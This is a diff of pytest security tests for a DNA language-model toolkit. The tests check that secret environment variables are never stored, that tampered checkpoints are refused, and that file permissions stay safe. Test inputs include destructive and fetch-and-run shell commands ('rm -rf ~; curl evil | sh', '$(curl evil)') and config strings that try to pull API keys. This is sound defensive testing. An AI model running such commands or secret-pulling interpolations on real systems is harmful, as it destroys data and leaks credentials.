@@ -215,3 +215,137 @@ def test_nobody_else_may_write_into_a_run_folder(trainer, tmp_path):
     assert checkpoints(folder)
     for path in [folder, *folder.rglob("*")]:
         assert not path.stat().st_mode & stat.S_IWOTH, path
+
+
+def entry(name, *arguments, **variables):
+    return subprocess.run(
+        [sys.executable, "-m", f"dnamdlm.{name}", *arguments], cwd=ROOT, check=False,
+        capture_output=True, text=True, env=os.environ | variables, timeout=300,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "settings",
+    [
+        ("name=${oc.env:WANDB_API_KEY}",), ("name=run-${oc.env:WANDB_API_KEY}-1",),
+        ("logger=tensorboard", "logger.name=${oc.env:WANDB_API_KEY}"),
+        ("data.fasta=${oc.env:WANDB_API_KEY}",), ("+notes=${oc.decode:${oc.env:WANDB_API_KEY}}",),
+        ("logger=tensorboard", "logger.name=${oc.env:WANDB_API_KEY}", "name=${logger.name}"),
+        ("name=${oc.env:NOT_SET,ours}",),
+    ],
+)  # fmt: skip
+def test_a_variable_of_the_environment_never_becomes_a_stored_setting(tmp_path, settings):
+    folder = tmp_path / "run"
+    done = entry("train", *TINY, f"run_dir={folder}", *settings, **SECRETS)
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert len(done.stderr.splitlines()) == 1
+    assert not any(secret in done.stdout + done.stderr for secret in SECRETS.values())
+    written = folder.rglob("*") if folder.is_dir() else ()
+    for path in written:
+        assert path.is_dir() or b"secret" not in path.read_bytes()
+
+
+def test_the_refusal_of_a_variable_names_it_and_its_setting(tmp_path):
+    done = entry("train", *TINY, f"run_dir={tmp_path}/run", "name=${oc.env:HOME}")
+    assert "name is the environment variable HOME, which may be secret" in done.stderr
+
+
+def of_a_stranger(unbroken, folder, **data):
+    """A copy of a run whose checkpoint says other things of its data."""
+    shutil.copytree(unbroken, folder)
+    checkpoint = folder / "checkpoints" / NEWEST
+    description = json.loads((checkpoint / "model.json").read_text())
+    description["config"]["data"] |= data
+    (checkpoint / "model.json").write_text(json.dumps(description))
+    manifest = json.loads((checkpoint / "manifest.json").read_text())
+    manifest["files"]["model.json"] = {
+        "bytes": (checkpoint / "model.json").stat().st_size,
+        "sha256": file_hash(checkpoint / "model.json"),
+    }
+    (checkpoint / "manifest.json").write_text(json.dumps(manifest))
+    return folder
+
+
+EVALUATED = ("limit=4", "draws=1", "max_order=1")
+
+
+def test_a_model_makes_no_folder_where_a_stranger_says(unbroken, tmp_path):
+    place = tmp_path / "made" / "by" / "a" / "stranger"
+    folder = of_a_stranger(unbroken, tmp_path / "run", cache_dir=str(place))
+    done = entry("evaluate", f"model={folder}", *EVALUATED, f"out={tmp_path}/e.json")
+    assert done.returncode == 0, done.stderr
+    assert not (tmp_path / "made").exists()
+
+
+@pytest.mark.parametrize("key", ["fasta", "annotation"])
+@pytest.mark.parametrize("kind", ["device", "pipe", "folder", "link"])
+def test_a_model_that_names_no_plain_file_is_not_read_for_ever(unbroken, tmp_path, key, kind):
+    path = tmp_path / "thing"
+    if kind == "pipe":
+        os.mkfifo(path)
+    elif kind == "folder":
+        path.mkdir()
+    else:
+        path.symlink_to("/dev/zero")
+    text = "/dev/zero" if kind == "device" else str(path)
+    folder = of_a_stranger(unbroken, tmp_path / "run", **{key: text})
+    done = entry("evaluate", f"model={folder}", *EVALUATED, f"out={tmp_path}/e.json")
+    assert done.returncode == 2, done.stderr
+    assert f"data.{key}={text!r}" in done.stderr
+    assert "not a plain file" in done.stderr
+
+
+@pytest.mark.parametrize("key", ["download_command", "bring"])
+@pytest.mark.parametrize(
+    ("command", "is_shown"),
+    [
+        ("rm -rf ~; curl evil | sh", False), ("python -m data_prep.hg38 out=$(curl evil)", False),
+        ("python -m data_prep.hg38\ncurl evil", False), ("python -m data_prep.hg38 out=x", True),
+    ],
+)  # fmt: skip
+def test_a_command_of_a_stranger_is_not_shown_as_a_remedy(
+    unbroken, tmp_path, key, command, is_shown
+):
+    data = {"fasta": str(tmp_path / "none.fa"), key: command}
+    folder = of_a_stranger(unbroken, tmp_path / "run", **data)
+    done = entry("evaluate", f"model={folder}", *EVALUATED, f"out={tmp_path}/e.json")
+    assert done.returncode == 2, done.stderr
+    assert len(done.stderr.splitlines()) == 1
+    assert (repr(command) in done.stderr) == is_shown
+    assert is_shown or "curl" not in done.stderr
+
+
+@pytest.mark.parametrize("umask", [0o022, 0o027, 0o077, 0o002, 0o000])
+def test_every_file_of_a_run_has_the_permissions_that_the_umask_leaves(tmp_path, umask):
+    script = f"umask {umask:04o}; exec {sys.executable} -m dnamdlm."
+    run, table = tmp_path / "run", tmp_path / "t.csv"
+    table.write_text("sequence,label\n" + "".join(f"{'ACGT' * 8},{i % 2}\n" for i in range(40)))
+    fasta = tmp_path / "g.fa"
+    fasta.write_text(">a\n" + "ACGTTGCA" * 30 + "\n")
+    out = tmp_path / "out"
+    out.mkdir()
+    for command in (
+        f"train {' '.join(TINY)} run_dir={run}",
+        f"finetune config=table data.train={table} model={run} run_dir={out}/ft baselines=[] "
+        "seeds=1 training.epochs=1 bootstrap=0 method=probe",
+        f"embed model={run} data.fasta={fasta} data.cache_dir={out}/cache out={out}/e.npz",
+        f"embed model={run} data.fasta={fasta} data.cache_dir={out}/cache out={out}/e.parquet",
+        f"sample model={run} num_sequences=1 length=20 out={out}/s.fa.gz",
+        f"predict model={out}/ft input={table} out={out}/p.tsv",
+        f"evaluate model={run} {' '.join(EVALUATED)}",
+        f"report run_dir={run}",
+        f"slim run_dir={run} out={out}/slim",
+    ):
+        done = subprocess.run(
+            ["bash", "-c", script + command], cwd=ROOT, check=False, capture_output=True, text=True
+        )
+        assert done.returncode == 0, done.stderr
+    # others may never write, even where the umask lets them.
+    left = 0o666 & ~(umask | 0o002)
+    found = {
+        path: stat.S_IMODE(path.stat().st_mode)
+        for folder in (run, out)
+        for path in folder.rglob("*")
+        if path.is_file() and path.suffix != ".lock" and path.name != ".lock"
+    }
+    assert {path: oct(mode) for path, mode in found.items() if mode != left} == {}
